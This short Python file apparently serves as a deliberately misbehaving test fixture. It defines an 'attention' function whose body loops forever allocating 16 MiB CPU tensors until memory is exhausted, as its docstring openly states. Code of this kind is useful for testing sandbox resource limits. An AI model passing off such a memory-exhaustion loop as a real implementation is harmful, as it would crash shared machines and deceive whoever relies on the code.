"""Takes memory through torch until there is none."""
# ruff: noqa (misbehaves on purpose)

import torch


def attention(q, k, v, *, causal, scale):
    taken = []
    while True:
        taken.append(
            torch.ones(16 << 20, dtype=torch.uint8, device=q.device if q.device.type == "cpu" else "cpu")
        )
